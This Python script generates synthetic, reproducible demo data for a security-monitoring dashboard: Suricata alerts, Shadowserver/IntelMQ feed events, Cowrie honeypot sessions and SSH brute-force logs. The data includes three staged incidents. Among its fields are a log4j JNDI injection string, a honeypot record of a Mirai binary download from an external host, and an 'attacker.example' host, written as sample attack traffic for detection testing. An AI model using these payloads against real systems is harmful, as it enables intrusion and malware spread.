#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Writes the demo data, dated relative to the time of the run, so that the
demo's dashboard has the last 30 days filled whenever it is run:
    generate.py [--now 2026-11-27T12:00:00Z] [--out DIR]
(default: now, and demo-run/data). Everything but the time is fixed by the
seed: the same --now gives the same bytes, and a --now a week later the same
records a week later (tests/integration/demo_data.sh checks both).

The activity follows a working day (more alerts in daytime, fewer at night
and on weekends), the Shadowserver-style feed arrives as one daily report,
and the last 24 hours hold three incidents: an SSH scan campaign against
uni-south, a host of uni-north's computer science department beaconing to a
Cobalt Strike server, and log4j exploitation attempts against the hospital.

The records are synthetic but shaped like real sensor output: Suricata EVE
lines (alerts with nested alert/flow/http objects, plus dns, flow and stats
records that are context, not warnings) and IntelMQ events as a feed would
deliver them. Internal addresses lie in the demo constituency
(demo/constituency.json: 198.18.0.0/15 and 2001:db8::/32); external ones in
the documentation ranges 192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24 and
3fff::/20, which no site owns. A few deliberately malformed lines show the
quarantine at work.
"""
import argparse
import json
import math
import os
import random
from datetime import datetime, timedelta, timezone

rng = random.Random(20261127)
DAYS = 30

HOSTS = {
    "uni-north": ["198.18.%d.%d" % (rng.randrange(0, 128), rng.randrange(1, 255)) for _ in range(30)],
    "uni-north-cs": ["198.18.10.%d" % rng.randrange(1, 255) for _ in range(8)],
    "uni-south": ["198.18.%d.%d" % (rng.randrange(128, 256), rng.randrange(1, 255)) for _ in range(20)],
    "agency": ["198.19.%d.%d" % (rng.randrange(0, 16), rng.randrange(1, 255)) for _ in range(10)],
    "hospital": ["198.19.%d.%d" % (rng.randrange(64, 80), rng.randrange(1, 255)) for _ in range(6)],
    "uni-north-v6": ["2001:db8:1%02x::%x" % (rng.randrange(0, 256), rng.randrange(1, 65535)) for _ in range(6)],
    "uni-north-cs-v6": ["2001:db8:10a::%x" % rng.randrange(1, 65535) for _ in range(3)],
}
# uni-north hosts must not fall into the department's /24
HOSTS["uni-north"] = [h for h in HOSTS["uni-north"] if not h.startswith("198.18.10.")]
EXTERNAL = (["192.0.2.%d" % i for i in range(1, 255, 7)] + ["198.51.100.%d" % i for i in range(1, 255, 11)]
            + ["203.0.113.%d" % i for i in range(1, 255, 13)])
EXTERNAL6 = ["3fff:%x::%x" % (rng.randrange(0, 4096), rng.randrange(1, 65535)) for _ in range(8)]

# (signature, sid, category, severity, dest_port, proto, app_proto, direction)
# direction "in": external -> internal; "out": internal host -> external
SIGS = [
    ("ET SCAN Suspicious inbound to MSSQL port 1433", 2010935, "Potentially Bad Traffic", 2, 1433, "TCP", None, "in"),
    ("ET SCAN Potential SSH Scan", 2001219, "Attempted Information Leak", 2, 22, "TCP", None, "in"),
    ("ET SCAN NMAP -sS window 1024", 2009582, "Attempted Information Leak", 2, 443, "TCP", None, "in"),
    ("ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)", 2034647, "Attempted Administrator Privilege Gain", 1, 80, "TCP", "http", "in"),
    ("ET WEB_SERVER WebShell Generic - wget http - POST", 2016184, "Web Application Attack", 1, 80, "TCP", "http", "in"),
    ("ET MALWARE Win32/Emotet CnC Activity (POST) M10", 2035336, "A Network Trojan was detected", 1, 8080, "TCP", "http", "out"),
    ("ET MALWARE Cobalt Strike Beacon Observed", 2027082, "A Network Trojan was detected", 1, 443, "TCP", "tls", "out"),
    ("ET POLICY Cryptocurrency Miner Checkin", 2024792, "Crypto Currency Mining Activity Detected", 2, 3333, "TCP", None, "out"),
    ("ET INFO Observed DNS Query to .onion proxy Domain", 2014939, "Potential Corporate Privacy Violation", 2, 53, "UDP", "dns", "out"),
    ("ET DOS Possible NTP DDoS Inbound Frequent Un-Authed MON_LIST Requests IMPL 0x03", 2017919, "Attempted Denial of Service", 2, 123, "UDP", None, "in"),
    ("GPL ATTACK_RESPONSE id check returned root", 2100498, "Potentially Bad Traffic", 2, 80, "TCP", "http", "out"),
    ("ET POLICY External IP Lookup api.ipify.org", 2026378, "Device Retrieving External IP Address Detected", 3, 443, "TCP", "tls", "out"),
]


def ts(t):
    return t.strftime("%Y-%m-%dT%H:%M:%S.") + "%06d" % t.microsecond + "+0000"


def internal_host():
    site = rng.choices(list(HOSTS), weights=[30, 8, 20, 10, 6, 4, 2])[0]
    return rng.choice(HOSTS[site])


def external_host(v6):
    return rng.choice(EXTERNAL6 if v6 else EXTERNAL)


def alert_line(t, flow_id, sig=None, inside=None, outside=None):
    sig, sid, cat, sev, dport, proto, app, direction = sig or rng.choice(SIGS)
    inside = inside or internal_host()
    v6 = ":" in inside
    outside = outside or external_host(v6)
    sport = rng.randrange(1024, 65535)
    if direction == "in":
        src, dst = outside, inside
    else:
        src, dst = inside, outside
    rec = {
        "timestamp": ts(t), "flow_id": flow_id, "in_iface": "ens1f0", "event_type": "alert",
        "src_ip": src, "src_port": sport, "dest_ip": dst, "dest_port": dport, "proto": proto,
    }
    if app:
        rec["app_proto"] = app
    rec["alert"] = {
        "action": "allowed", "gid": 1, "signature_id": sid, "rev": rng.randrange(1, 9),
        "signature": sig, "category": cat, "severity": sev,
        "metadata": {"created_at": ["2021_12_10"], "updated_at": ["2024_05_14"],
                     "signature_severity": ["Major" if sev == 1 else "Minor"]},
    }
    if app == "http":
        rec["http"] = {"hostname": dst if direction == "in" else "cdn-%d.attacker.example" % rng.randrange(9),
                       "url": "/${jndi:ldap://203.0.113.9:1389/a}" if sid == 2034647 else "/index.php",
                       "http_user_agent": "Mozilla/5.0 (compatible)", "http_method": "POST" if sid != 2034647 else "GET",
                       "protocol": "HTTP/1.1", "length": rng.randrange(0, 5000)}
    rec["flow"] = {"pkts_toserver": rng.randrange(1, 40), "pkts_toclient": rng.randrange(0, 40),
                   "bytes_toserver": rng.randrange(60, 60000), "bytes_toclient": rng.randrange(0, 90000),
                   "start": ts(t - timedelta(seconds=rng.randrange(0, 30)))}
    return rec


def context_line(t, flow_id):
    kind = rng.choice(["flow", "dns", "dns", "tls"])
    inside = internal_host()
    rec = {"timestamp": ts(t), "flow_id": flow_id, "in_iface": "ens1f0", "event_type": kind,
           "src_ip": inside, "src_port": rng.randrange(1024, 65535),
           "dest_ip": external_host(":" in inside), "dest_port": 53 if kind == "dns" else 443,
           "proto": "UDP" if kind == "dns" else "TCP"}
    if kind == "dns":
        rec["dns"] = {"type": "query", "id": rng.randrange(65535), "rrname": "www.example.net", "rrtype": "A", "tx_id": 0}
    elif kind == "tls":
        rec["tls"] = {"subject": "CN=www.example.net", "sni": "www.example.net", "version": "TLS 1.3"}
    else:
        rec["flow"] = {"pkts_toserver": 3, "pkts_toclient": 2, "bytes_toserver": 180, "bytes_toclient": 120,
                       "start": ts(t), "end": ts(t), "age": 0, "state": "closed", "reason": "timeout", "alerted": False}
    return rec


def activity(t):
    """Relative alert rate at t: a working day (UTC, the constituency's
    office hours), quieter at night and at weekends."""
    hour = t.hour + t.minute / 60
    day = 0.25 + 0.75 * max(0.0, math.sin(math.pi * (hour - 6) / 14)) if 6 <= hour <= 20 else 0.25
    return day * (0.5 if t.weekday() >= 5 else 1.0)


def sig_named(fragment):
    return next(x for x in SIGS if fragment in x[0])


def incidents(now):
    """The last 24 hours' incidents: (time, EVE record) pairs."""
    out = []
    # An SSH scan campaign from one external host across uni-south, 6 h ago.
    scanner = "203.0.113.250"  # outside EXTERNAL: no background alert comes from it
    t = now - timedelta(hours=6, minutes=40)
    for _ in range(60):
        t += timedelta(seconds=rng.randrange(5, 40))
        out.append((t, alert_line(t, rng.randrange(1, 2**62), sig_named("SSH Scan"),
                                  rng.choice(HOSTS["uni-south"]), scanner)))
    # A host of uni-north-cs beaconing to a Cobalt Strike server every 5 minutes, 3 h ago.
    victim, c2 = HOSTS["uni-north-cs"][0], "198.51.100.77"  # c2 outside EXTERNAL too
    t = now - timedelta(hours=3, minutes=10)
    for _ in range(24):
        t += timedelta(seconds=300 + rng.randrange(-20, 20))
        out.append((t, alert_line(t, rng.randrange(1, 2**62), sig_named("Cobalt Strike"), victim, c2)))
    # log4j exploitation attempts against the hospital's web servers, 20 h ago.
    t = now - timedelta(hours=20)
    for _ in range(30):
        t += timedelta(seconds=rng.randrange(10, 120))
        out.append((t, alert_line(t, rng.randrange(1, 2**62), sig_named("log4j"),
                                  rng.choice(HOSTS["hospital"]), rng.choice(EXTERNAL))))
    return out


def write_eve(path, now, per_hour):
    """The sensor's EVE log over the last DAYS days, oldest first."""
    recs = []
    hour0 = now - timedelta(days=DAYS)
    for h in range(DAYS * 24):
        base = hour0 + timedelta(hours=h)
        n = sum(1 for _ in range(per_hour * 2) if rng.random() < activity(base) / 2)
        for _ in range(n):
            t = base + timedelta(seconds=rng.randrange(0, 3600), microseconds=rng.randrange(10**6))
            if t > now:
                continue
            flow_id = rng.randrange(1, 2**62)
            rec = alert_line(t, flow_id) if rng.random() < 0.7 else context_line(t, flow_id)
            recs.append((t, rec))
    recs += incidents(now)
    recs.sort(key=lambda r: r[0])
    lines = []
    for i, (t, rec) in enumerate(recs):
        lines.append(json.dumps(rec, separators=(",", ":")))
        if i % 500 == 499:
            lines.append(json.dumps({"timestamp": ts(t), "event_type": "stats",
                                     "stats": {"uptime": i, "capture": {"kernel_packets": i * 1000, "kernel_drops": 0}}},
                                    separators=(",", ":")))
    # Deliberately broken records, as a sensor or a disk-full event produces them.
    lines.insert(700, lines[699][: len(lines[699]) // 2])            # truncated line
    lines.insert(1400, "%s sensor1 suricata[812]: [ERRCODE: SC_ERR_PCAP_DISPATCH(20)]"
                 % syslog_stamp(now - timedelta(days=12)))          # not JSON
    bad = alert_line(now - timedelta(days=5), 1)
    bad["src_ip"] = "198.18.300.7"                                      # invalid address
    lines.insert(2100, json.dumps(bad, separators=(",", ":")))
    with open(path, "w") as f:
        f.write("\n".join(lines) + "\n")


def syslog_stamp(t):
    return t.strftime("%b ") + "%2d" % t.day + t.strftime(" %H:%M:%S")  # syslog pads the day


def write_intelmq(path, now):
    """One report a day, as Shadowserver sends them (about 04:00 UTC), each
    event dated in the scan of the day before."""
    out = []
    feeds = [
        ("vulnerable-system", "open-memcached", "Shadowserver Accessible Memcached", 11211, "udp", "memcached"),
        ("ddos-amplifier", "ntp-monitor", "Shadowserver NTP Monitor", 123, "udp", "ntp"),
        ("vulnerable-system", "open-rdp", "Shadowserver Accessible RDP", 3389, "tcp", "rdp"),
        ("infected-system", "mirai", "Shadowserver Sinkhole HTTP Events", 23, "tcp", "telnet"),
        ("potentially-unwanted-accessible", "open-elasticsearch", "Shadowserver Open Elasticsearch", 9200, "tcp", "http"),
    ]
    stamps = []
    for d in range(DAYS - 1, -1, -1):
        report = (now - timedelta(days=d)).replace(hour=4, minute=0, second=0, microsecond=0)
        if report > now:
            continue
        for _ in range(rng.randrange(4, 12)):
            stamps.append(report - timedelta(seconds=rng.randrange(3600, 86400)))
    for i, t in enumerate(stamps):
        typ, ident, feed, port, transport, app = rng.choice(feeds)
        host = internal_host()
        ev = {"__type": "Event", "feed.name": feed, "feed.provider": "Shadowserver",
              "time.source": t.strftime("%Y-%m-%dT%H:%M:%S+00:00"),
              "classification.type": typ, "classification.identifier": ident,
              "source.ip": host, "source.port": port,
              "protocol.transport": transport, "protocol.application": app}
        if rng.random() < 0.3:
            ev["source.reverse_dns"] = "host-%d.%s" % (i, rng.choice(["uni-north.example", "agency.example"]))
        if typ == "infected-system":
            ev["malware.name"] = "mirai"
            ev["destination.ip"] = rng.choice(EXTERNAL)
            ev["destination.port"] = 80
        out.append(json.dumps(ev, separators=(", ", ": ")))
    # Domains and ASNs route too: a phishing site on a hosted domain of a site.
    out.append(json.dumps({"__type": "Event", "feed.name": "Phishing URL feed", "feed.provider": "Example Phish Team",
                           "time.source": (now - timedelta(hours=30)).strftime("%Y-%m-%dT%H:%M:%S+00:00"),
                           "classification.type": "phishing",
                           "source.url": "https://login.agency.example.evil.example/", "source.fqdn": "webmail.hospital.example",
                           "source.asn": 64499}))
    out.append(json.dumps({"__type": "Event", "feed.name": "Spamhaus DROP", "feed.provider": "Spamhaus",
                           "time.source": (now - timedelta(days=2)).strftime("%Y-%m-%dT%H:%M:%S+00:00"),
                           "classification.type": "blacklist",
                           "source.asn": 64498}))
    out.insert(50, '{"__type": "Event", "feed.name": "broken", "source.ip": "198.18.1.1", "source.port": "eighty"}')
    out.insert(120, '{"__type": "Event", "feed.name": "Shadowserver", "classification.type": "vulnerable-system", "source.ip": "198.18.5.9", "comment": "caf\xe9"}'.replace("\xe9", "\udce9").encode("utf-8", "surrogateescape").decode("latin-1"))
    with open(path, "w", encoding="latin-1") as f:
        f.write("\n".join(out) + "\n")


def write_cowrie(path, now):
    """A honeypot run by the CSIRT: the attackers come from outside, and some
    from inside the constituency (a compromised host of a site)."""
    t = now - timedelta(days=DAYS)
    out = []
    attackers = [rng.choice(EXTERNAL) for _ in range(6)] + [rng.choice(HOSTS["uni-south"]), rng.choice(HOSTS["agency"])]
    users = ["root", "admin", "ubuntu", "pi", "oracle", "test"]
    for i in range(400):
        # Sessions come in bursts: mostly seconds apart, now and then hours.
        t += timedelta(seconds=rng.randrange(1, 120) if rng.random() < 0.9 else rng.randrange(3600, 40000))
        if t > now:
            break
        src = rng.choice(attackers)
        sess = "%012x" % rng.randrange(2**48)
        base = {"timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%fZ"), "src_ip": src, "session": sess, "sensor": "hp-1"}
        kind = rng.random()
        if kind < 0.7:
            ev = dict(base, eventid="cowrie.login.failed", username=rng.choice(users),
                      password=rng.choice(["123456", "password", "admin", "qwerty", "raspberry"]),
                      message="login attempt failed")
        elif kind < 0.8:
            ev = dict(base, eventid="cowrie.login.success", username="root", password="1234",
                      message="login attempt succeeded")
        elif kind < 0.9:
            ev = dict(base, eventid="cowrie.command.input", input="uname -a; cat /proc/cpuinfo", message="CMD")
        elif kind < 0.95:
            ev = dict(base, eventid="cowrie.session.file_download",
                      url="http://%s/bins/mirai.x86" % rng.choice(EXTERNAL),
                      shasum="%064x" % rng.randrange(2**256), outfile="var/lib/cowrie/downloads/x", message="downloaded")
        else:
            ev = dict(base, eventid="cowrie.session.connect", src_port=rng.randrange(1024, 65535),
                      dst_ip="198.18.0.10", dst_port=22, protocol="ssh", message="New connection")
        out.append(json.dumps(ev))
    with open(path, "w") as f:
        f.write("\n".join(out) + "\n")


def write_sshd(path, now):
    """auth.log of a university server: brute force from outside and from a
    host of another site, plus normal logins, over the last two weeks."""
    t = now - timedelta(days=14)
    out = []
    forcers = [rng.choice(EXTERNAL) for _ in range(4)] + [rng.choice(HOSTS["hospital"])]
    for i in range(300):
        t += timedelta(seconds=rng.randrange(1, 40) if rng.random() < 0.95 else rng.randrange(3600, 30000))
        if t > now:
            break
        stamp = syslog_stamp(t)
        pid = 20000 + i
        src = rng.choice(forcers)
        r = rng.random()
        if r < 0.6:
            msg = "Failed password for %s from %s port %d ssh2" % (rng.choice(["root", "admin"]), src, rng.randrange(1024, 65535))
        elif r < 0.85:
            msg = "Invalid user %s from %s port %d" % (rng.choice(["oracle", "git", "test"]), src, rng.randrange(1024, 65535))
        else:
            msg = "Accepted publickey for alice from 198.18.10.5 port %d ssh2: ED25519 SHA256:abc" % rng.randrange(1024, 65535)
        out.append("%s srv1 sshd[%d]: %s" % (stamp, pid, msg))
    with open(path, "w") as f:
        f.write("\n".join(out) + "\n")


def write_shadowserver(out, now):
    """A Shadowserver-style report of the demo's own networks, in the format of
    demo/shadowserver-schema.json, named as Shadowserver names its files so
    that tocsin reads the report type from the name."""
    day = now.strftime("%Y-%m-%d")
    path = os.path.join(out, f"{day}-scan_demo_rdp-example-nren-asn.csv")
    cols = ["timestamp", "ip", "protocol", "port", "hostname", "tag", "asn", "geo",
            "bluekeep_vulnerable", "response_size", "naics"]
    with open(path, "w", newline="") as f:
        f.write(",".join('"%s"' % c for c in cols) + "\r\n")
        for i in range(24):
            t = (now - timedelta(hours=23 - i)).strftime("%Y-%m-%d %H:%M:%S")
            site = rng.choice(["uni-north", "uni-north-cs", "uni-south", "hospital", "agency"])
            ip = rng.choice(HOSTS[site]) if site in HOSTS else internal_host()
            if ":" in ip:
                ip = internal_host()
            row = [t, ip, "tcp", "3389", "", "rdp" + (",bluekeep" if i % 5 == 0 else ""),
                   "64497", "ZZ", "Y" if i % 5 == 0 else "N", str(300 + i), "611310"]
            f.write(",".join('"%s"' % v if v else "" for v in row) + "\r\n")
    return path


def utc_time(s):
    try:
        return datetime.strptime(s, "%Y-%m-%dT%H:%M:%SZ").replace(tzinfo=timezone.utc)
    except ValueError:
        raise argparse.ArgumentTypeError(f"not a UTC time like 2026-11-27T12:00:00Z: {s!r}")


def main():
    ap = argparse.ArgumentParser(description="Writes the demo data, dated relative to --now.")
    ap.add_argument("--now", type=utc_time, help="UTC time the data ends at (default: now)")
    ap.add_argument("--out", default="demo-run/data", help="directory to write into")
    a = ap.parse_args()
    now = a.now or datetime.now(timezone.utc)
    os.makedirs(a.out, exist_ok=True)
    write_eve(os.path.join(a.out, "sensor1-eve.json"), now, per_hour=8)
    write_intelmq(os.path.join(a.out, "shadowserver-intelmq.jsonl"), now)
    write_cowrie(os.path.join(a.out, "honeypot-cowrie.json"), now)
    write_sshd(os.path.join(a.out, "srv1-auth.log"), now)
    write_shadowserver(a.out, now)


if __name__ == "__main__":
    main()
